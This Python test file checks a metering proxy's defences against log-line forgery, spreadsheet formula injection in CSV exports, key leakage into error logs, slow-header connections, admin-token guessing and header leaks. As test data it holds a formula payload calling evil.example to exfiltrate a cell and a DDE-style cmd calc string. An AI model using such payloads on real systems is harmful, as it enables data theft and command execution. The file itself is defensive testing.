"""The "leaks" class of the attack report: what a client can make the proxy
write where others read it (forged log lines, spreadsheet formulas, a key in
aiohttp's error log, the operator's account headers), connections that never
finish their headers, guessing the admin token at speed, and /metrics left
open. Each proxy test runs on both backends."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import re
from collections.abc import Awaitable, Callable, Iterator
from decimal import Decimal
from typing import Any

import aiohttp
import pytest

from taximeter.proxy.admin.admin import _csv_cell
from taximeter.proxy.api_shapes import EVENT_FIELDS
from taximeter.proxy.cli.serve import warn_if_exposed
from taximeter.proxy.dashboard.sessions import LoginThrottle
from taximeter.proxy.logs import JsonFormatter, PlainFormatter, configure_logging
from taximeter.proxy.settings import Settings
from tests.support.clock import FakeClock
from tests.support.fake_upstream import ACCOUNT_HEADERS, UPSTREAM_KEY
from tests.support.harness import ADMIN_TOKEN, Harness

MakeProxy = Callable[..., Awaitable[Harness]]
PLAIN = "%(asctime)s %(levelname)s %(name)s %(message)s"  # configure_logging's format
# A whole log line, as it would look if it started at the margin.
FORGED = "2000-01-01 00:00:00,000 INFO taximeter.proxy request_metered client=victim cost=0 FORGED"
# Everything str.splitlines() (and so a line-based log reader) treats as a line break.
BREAKS = ["\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
CHAT = {"model": "gpt-4o", "messages": [{"role": "user", "content": "Hi"}]}


@pytest.fixture
def root_logging() -> Iterator[None]:
    """Leave the root logger as the test found it (configure_logging replaces its handlers)."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    yield
    root.handlers[:] = handlers
    root.setLevel(level)


def record(msg: str = "request_metered", *args: Any, **fields: Any) -> logging.LogRecord:
    made = logging.LogRecord("taximeter.proxy", logging.INFO, __file__, 1, msg, args, None)
    made.__dict__.update(fields)
    return made


# -- 1. log injection ------------------------------------------------------------------


@pytest.mark.parametrize("brk", [*BREAKS, "\x00", "\x1b[2K"])
def test_a_plain_line_escapes_control_characters_in_message_and_fields(brk: str) -> None:
    made = record("request from %s", "10.0.0.1" + brk + FORGED, model="gpt-4o" + brk + FORGED, tokens=5)
    line = PlainFormatter(PLAIN).format(made)
    assert line.splitlines() == [line]
    assert not re.search(r"[\x00-\x08\x0e-\x1f\x7f]", line)
    assert "FORGED" in line and " tokens=5" in line


def test_a_plain_field_cannot_pose_as_other_fields() -> None:
    made = record(end_user='bob" status=200 cost="0', conversation="", path="C:\\x")
    line = PlainFormatter(PLAIN).format(made)
    fields = line.split(" request_metered ", 1)[1]
    assert fields == r'end_user="bob\" status=200 cost=\"0" conversation="" path="C:\\x"'


def test_a_traceback_stays_indented_under_its_record() -> None:
    try:
        raise ValueError("bad model\n" + FORGED)
    except ValueError as exc:
        made = logging.LogRecord(
            "taximeter.proxy", logging.ERROR, __file__, 1, "failed", (), (type(exc), exc, exc.__traceback__)
        )
    lines = PlainFormatter(PLAIN).format(made).split("\n")
    assert lines[0].endswith(" ERROR taximeter.proxy failed") and len(lines) > 3
    assert all(line.startswith("  ") for line in lines[1:])  # only the record starts at the margin
    assert "  " + FORGED in lines


class Unprintable:
    def __str__(self) -> str:
        raise RuntimeError("no")


def test_a_json_line_stays_one_valid_object_whatever_the_fields() -> None:
    cyclic: dict[str, Any] = {}
    cyclic["self"] = cyclic
    made = record(model="gpt-4o\n" + FORGED + '"}', ratio=float("nan"), odd=Unprintable(), loop=cyclic)
    line = JsonFormatter().format(made)
    assert line.splitlines() == [line]

    def no_bare_constants(name: str) -> Any:
        raise AssertionError(f"{name} is not JSON")

    parsed = json.loads(line, parse_constant=no_bare_constants)
    assert parsed["model"] == "gpt-4o\n" + FORGED + '"}' and parsed["event"] == "request_metered"
    assert parsed["ratio"] == "nan" and parsed["odd"] == "<unprintable Unprintable>"


@pytest.mark.parametrize("as_json", [False, True], ids=["plain", "json"])
async def test_a_model_name_cannot_forge_a_log_line(
    make_proxy: MakeProxy, capsys: pytest.CaptureFixture[str], root_logging: None, as_json: bool
) -> None:
    proxy = await make_proxy(unpriced_models="allow")  # so the odd model is served and logged
    key = await proxy.new_client("acme")
    configure_logging("INFO", as_json=as_json)
    statuses = []
    for brk in ("\n", "\r", "\x85", "\u2028"):
        async with proxy.http.post(
            f"{proxy.url}/v1/chat/completions",
            json={**CHAT, "model": "gpt-4o" + brk + FORGED},
            headers={"Authorization": f"Bearer {key}"},
        ) as resp:
            statuses.append(resp.status)
    await proxy.services.meter.ledger.flush()
    err = capsys.readouterr().err
    # Served and logged, or refused at the edge; either way never a line of its own.
    assert "FORGED" in err or set(statuses) == {400}
    for line in err.splitlines():
        if as_json:
            json.loads(line)
        else:
            assert re.match(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} [A-Z]+ |  ", line), line
            assert not line.startswith(FORGED[:10])


# -- 2. CSV export ------------------------------------------------------------------------


async def test_the_csv_export_neutralises_formulas_and_has_every_field(proxy: Harness) -> None:
    key = await proxy.new_client("acme")
    end_user, conversation = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"
    await proxy.sdk(key).chat.completions.create(
        **CHAT, extra_headers={"X-Taximeter-End-User": end_user, "X-Taximeter-Conversation": conversation}
    )
    [event] = await proxy.events("acme")
    async with proxy.http.get(
        f"{proxy.url}/admin/usage/events?format=csv", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}
    ) as resp:
        assert resp.status == 200 and resp.content_type == "text/csv"
        reader = csv.DictReader(io.StringIO(await resp.text()))
        [row] = list(reader)
    assert reader.fieldnames == list(EVENT_FIELDS)
    assert set(EVENT_FIELDS) == set(event), "the CSV and the JSON event must have the same columns"
    assert (row["end_user"], row["conversation"]) == ("'" + end_user, "'" + conversation)
    assert row["unpriced"] == "False" and row["input_tokens"] == "1200"
    assert Decimal(row["cost"]) == Decimal(event["cost"]) > 0 and row["cost_usd"] == event["cost_usd"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),  # a number stays a number
        ("-12", "-12"),
        ("0.02875", "0.02875"),
        ("user-7", "user-7"),
        (1200, 1200),
        (False, False),
        (None, None),
    ],
)
def test_a_csv_cell_that_starts_like_a_formula_is_text(value: Any, cell: Any) -> None:
    assert _csv_cell(value) == cell


# -- 3. a key in aiohttp's own error log ---------------------------------------------------


async def send_raw(proxy: Harness, request: bytes) -> bytes:
    """Send bytes as they are (no client would send them) and read the answer."""
    reader, writer = await asyncio.open_connection(proxy.server.host, proxy.server.port)
    try:
        writer.write(request)
        return await asyncio.wait_for(reader.read(), 5)
    finally:
        writer.close()


async def test_a_malformed_header_never_puts_a_key_in_a_log(
    proxy: Harness,
    caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
    root_logging: None,
) -> None:
    key = (await proxy.new_client("acme")).encode()
    configure_logging("DEBUG", as_json=True)
    logging.getLogger().addHandler(caplog.handler)  # configure_logging replaced it
    head = b"GET /v1/models HTTP/1.1\r\nHost: x\r\n"
    for raw in (
        head + b"Authorization: Bearer " + key + b"\x01\r\n\r\n",  # aiohttp quotes the whole line
        head + b"Authorization: bearer " + key[:20] + b"\x01" + key[20:] + b"\r\n\r\n",
        head + b"X-Api-Key: " + key + b"\x01\r\n\r\n",
        head + b"X-Admin: " + ADMIN_TOKEN.encode() + b"\x01\r\n\r\n",
        head + b"X-Upstream: " + UPSTREAM_KEY.encode() + b"\x01\r\n\r\n",
        b"G\x01T /v1/models?key=" + key + b" HTTP/1.1\r\nHost: x\r\n\r\n",  # logged at DEBUG
    ):
        assert (await send_raw(proxy, raw)).startswith(b"HTTP/1.0 400")
    errors = [r for r in caplog.records if r.name == "aiohttp.server"]
    assert len(errors) == 6 and all("[redacted]" in str(r.exc_text) for r in errors)
    logged = caplog.text + capsys.readouterr().err + repr([r.__dict__ for r in caplog.records])
    assert "aiohttp.server" in logged and key.decode()[:12] in logged  # the display prefix stays
    for secret in (key.decode()[12:], key.decode()[20:], ADMIN_TOKEN, UPSTREAM_KEY.removeprefix("sk-")):
        assert secret not in logged


# -- 4. connections that never finish their headers -------------------------------------


async def test_a_connection_that_never_finishes_its_headers_is_closed(make_proxy: MakeProxy) -> None:
    proxy = await make_proxy(header_timeout_s=0.5)
    loop = asyncio.get_running_loop()
    reader, writer = await asyncio.open_connection(proxy.server.host, proxy.server.port)
    started, trickled = loop.time(), 0
    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n")
    try:
        while True:  # a header line every 0.1 s: trickling must not keep it open
            try:
                answer = await asyncio.wait_for(reader.read(1024), 0.1)
                break
            except TimeoutError:
                assert loop.time() - started < 5, "still open after 5 s"
                writer.write(b"X-Slow-%d: y\r\n" % trickled)
                trickled += 1
    finally:
        writer.close()
    assert answer == b""  # closed, with nothing to say
    assert trickled >= 3 and loop.time() - started < 2


async def test_a_stream_longer_than_the_header_timeout_is_not_cut(make_proxy: MakeProxy) -> None:
    proxy = await make_proxy(header_timeout_s=0.5)
    key = await proxy.new_client("acme")
    proxy.upstream.gate = asyncio.Event()  # the upstream stalls after its first event
    async with proxy.http.post(
        f"{proxy.url}/v1/chat/completions",
        json={**CHAT, "stream": True},
        headers={"Authorization": f"Bearer {key}"},
    ) as resp:
        assert (await resp.content.readuntil(b"\n\n")).startswith(b"data: ")
        rest = asyncio.ensure_future(resp.content.read())
        done, _ = await asyncio.wait({rest}, timeout=1.0)  # twice the header timeout, silent
        assert not done, "the connection was closed under a call in flight"
        proxy.upstream.gate.set()
        assert b"data: [DONE]" in await asyncio.wait_for(rest, 5)


# -- 5. guessing the admin token on the dashboard ---------------------------------------


async def test_dashboard_logins_are_throttled_per_address(
    make_proxy: MakeProxy, clock: FakeClock, caplog: pytest.LogCaptureFixture
) -> None:
    proxy = await make_proxy()
    caplog.set_level(logging.INFO, logger="taximeter.dashboard")

    async def login(token: str) -> tuple[int, str, str | None]:
        """A fresh browser (all from 127.0.0.1): the form, then the token."""
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as browser:
            async with browser.get(f"{proxy.url}/dashboard/login") as resp:
                [csrf] = re.findall(r'name="csrf" value="([^"]+)"', await resp.text())
            form = {"csrf": csrf, "token": token, "next": "/dashboard"}
            async with browser.post(f"{proxy.url}/dashboard/login", data=form, allow_redirects=False) as resp:
                return resp.status, await resp.text(), resp.headers.get("Retry-After")

    for _ in range(9):
        assert (await login("guess"))[0] == 401
    assert (await login(ADMIN_TOKEN))[0] == 303  # a right token starts the count again
    for _ in range(10):
        assert (await login("guess"))[0] == 401
    status, page, retry_after = await login(ADMIN_TOKEN)  # even the right one, now
    # In the page's language: Portuguese for this server's BRL, nothing asked.
    assert (status, retry_after) == (429, "300") and "Tentativas demais" in page
    assert "Tente novamente em 5 minutos." in page
    clock.advance(seconds=299)
    assert (await login(ADMIN_TOKEN))[2] == "1"
    clock.advance(seconds=1)
    assert (await login(ADMIN_TOKEN))[0] == 303
    throttled = [r for r in caplog.records if r.getMessage() == "dashboard_login_throttled"]
    assert len(throttled) == 1 and throttled[0].remote == "127.0.0.1"


def test_the_login_throttle_counts_per_address_within_its_window_and_stays_bounded() -> None:
    clock = FakeClock()
    throttle = LoginThrottle(clock, max_failures=2, window_s=60, max_addresses=3)
    assert throttle.failed("10.0.0.1") is False and throttle.failed("::ffff:10.0.0.1") is True
    assert throttle.retry_after_s("10.0.0.1") == 60 and throttle.retry_after_s("10.0.0.2") is None
    # One IPv6 host usually holds a /64: its addresses count together.
    throttle.failed("2001:db8::1")
    throttle.failed("2001:db8::2")
    assert (
        throttle.retry_after_s("2001:db8::ffff") == 60 and throttle.retry_after_s("2001:db8:0:1::1") is None
    )
    clock.advance(seconds=30)
    assert throttle.retry_after_s("10.0.0.1") == 30
    clock.advance(seconds=30)
    assert throttle.retry_after_s("10.0.0.1") is None  # the window passed
    throttle.failed("2001:db8::1")
    throttle.succeeded("2001:db8::1")
    assert throttle.retry_after_s("2001:db8::1") is None
    # Full: the address that failed least recently is forgotten, not the newest.
    for address in ("10.0.0.3", "10.0.0.3", "10.0.0.4", "10.0.0.5", "10.0.0.6"):
        throttle.failed(address)
    assert throttle.retry_after_s("10.0.0.3") is None
    throttle.failed("10.0.0.6")
    assert throttle.retry_after_s("10.0.0.6") == 60


# -- 6. /metrics left open -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("host", "metrics_token", "warned"),
    [
        ("0.0.0.0", None, True),
        ("::", None, True),
        ("10.1.2.3", None, True),
        ("proxy.internal", None, True),
        ("0.0.0.0", "metrics-token-7f3a", False),
        ("127.0.0.1", None, False),
        ("127.0.0.2", None, False),
        ("::1", None, False),
        ("localhost", None, False),
    ],
)
def test_serve_warns_when_metrics_are_open_beyond_loopback(
    caplog: pytest.LogCaptureFixture, host: str, metrics_token: str | None, warned: bool
) -> None:
    caplog.set_level(logging.INFO, logger="taximeter.serve")
    warn_if_exposed(Settings(host=host, metrics_token=metrics_token))
    assert [r.getMessage() for r in caplog.records] == (["metrics_open"] if warned else [])


# -- 7. the operator's account headers ---------------------------------------------------


async def test_the_operators_account_headers_never_reach_a_tenant(proxy: Harness) -> None:
    key = await proxy.new_client("acme")
    upstream_url = proxy.services.settings.upstream_url
    async with proxy.http.get(
        f"{upstream_url}/models", headers={"Authorization": f"Bearer {UPSTREAM_KEY}"}
    ) as resp:
        assert resp.headers["openai-organization"] == "org-SENTINEL"  # the upstream does send them
    auth = {"Authorization": f"Bearer {key}"}
    calls: list[tuple[str, str, dict[str, Any] | None]] = [
        ("POST", "/v1/chat/completions", CHAT),
        ("POST", "/v1/chat/completions", {**CHAT, "stream": True}),
        ("GET", "/v1/models", None),
    ]
    seen = []
    for method, path, body in calls:
        async with proxy.http.request(method, f"{proxy.url}{path}", json=body, headers=auth) as resp:
            await resp.read()
            seen.append((resp.status, dict(resp.headers)))
    proxy.upstream.fail_status = 500
    async with proxy.http.post(f"{proxy.url}/v1/chat/completions", json=CHAT, headers=auth) as resp:
        await resp.read()
        seen.append((resp.status, dict(resp.headers)))
    assert [status for status, _ in seen] == [200, 200, 200, 500]
    for _, headers in seen:
        assert not {name.lower() for name in headers} & set(ACCOUNT_HEADERS)
        assert "SENTINEL" not in str(headers)
